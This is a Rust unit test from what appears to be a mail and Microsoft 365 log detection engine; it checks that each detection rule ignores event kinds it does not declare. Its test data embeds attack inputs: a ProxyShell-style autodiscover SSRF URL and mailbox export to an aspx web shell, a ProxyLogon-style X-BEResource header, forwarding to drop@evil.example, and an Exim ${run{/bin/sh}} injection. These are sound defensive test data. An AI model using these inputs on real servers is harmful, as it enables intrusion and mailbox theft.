        let mut hour = i64::MIN;
        for f in facts {
            let h = f.ts_us.div_euclid(super::failures::HOUR_US);
            if hour != i64::MIN && h > hour {
                shared.settle_before(h);
                rule.seal(h, files, &shared);
                shared.seal(h);
            }
            hour = hour.max(h);
            shared.observe(f);
            rule.observe(f);
        }
        shared.settle();
        shared
    }

    /// Every kind of fact.
    const ALL_KINDS: [Kind; 34] = [
        Kind::Connect,
        Kind::Disconnect,
        Kind::LostConnection,
        Kind::AuthSuccess,
        Kind::AuthFailure,
        Kind::AuthBackendFailure,
        Kind::RelayDenied,
        Kind::RecipientUnknown,
        Kind::Vrfy,
        Kind::Expn,
        Kind::Reject,
        Kind::ProtocolError,
        Kind::MessageReceived,
        Kind::MessageQueued,
        Kind::Delivery,
        Kind::Forwarded,
        Kind::Service,
        Kind::RateLimit,
        Kind::HttpRequest,
        Kind::AdminCommand,
        Kind::FileWrite,
        Kind::MailboxRule,
        Kind::MailboxForwarding,
        Kind::TransportRule,
        Kind::AuditOperation,
        Kind::MailboxAccess,
        Kind::MailboxChange,
        Kind::MailboxSearch,
        Kind::MailboxExport,
        Kind::PermissionGrant,
        Kind::AppConsent,
        Kind::AccessSetting,
        Kind::AuditSetting,
        Kind::AccountChange,
    ];

    #[test]
    fn rules_that_declare_their_kinds_read_no_other() {
        use super::{all, Kinds, Shared, Thresholds};
        assert_eq!(ALL_KINDS.len(), Kind::AccountChange as usize + 1);
        // A detail every rule would act on if it read it: an exploit's request, a web shell's
        // path, a forwarding and redirect to outside, an export cmdlet, a consent.
        let detail = r#"{"op":"New-MailboxExportRequest","cmd":"New-MailboxExportRequest -Mailbox ceo -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx","method":"POST","url":"/autodiscover/autodiscover.json","query":"@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example","anchor":"X-BEResource=localhost~1942062522/ecp/DDI/DDIService.svc/SetObject","ua":"python-requests/2.31","path":"C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx","mailbox":"ceo@lab.example","name":"fwd","forward_to":["drop@evil.example"],"redirect_to":["drop@evil.example"],"copy_to":["drop@evil.example"],"delete":true}"#;
        assert!(crate::events::detail::Detail::from_text(detail).is_some());
        let t = Thresholds::default();
        let files: &Files = &[("var/log/mail.log".to_string(), None)];
        let mut checked = 0;
        for mut rule in all(&t) {
            let kinds = rule.kinds();
            if kinds == Kinds::ALL {
                continue;
            }
            checked += 1;
            let mut line = 0;
            for k in ALL_KINDS.into_iter().filter(|k| !kinds.has(*k)) {
                for status in ["created", "200", "rejected", "success"] {
                    for i in 0..60 {
                        line += 1;
                        rule.observe(&Fact::new(
                            T0 + line * 1_000_000,
                            k,
                            Some("m365"),
                            [
                                Some(&format!("203.0.113.{}", i % 7)),
                                Some("eve@lab.example"),
                                Some("ceo@lab.example"),
                                Some("${run{/bin/sh}}@evil.example"),
                                Some(&format!("user{i}@lab.example")),
                                None,
                                Some("4BC2D1F07E"),
                                Some(status),
                                Some("mx.evil.example[203.0.113.9]:25"),
                                Some(detail),
                            ],
                            0,
                            line as u64,
                        ));
                    }
                }
            }
            let found = rule.finish(files, &Shared::default());
            assert!(
                found.is_empty(),
                "a rule read a kind it does not declare: {found:#?}"
            );
        }
        assert!(checked >= 15, "{checked}");
    }
}
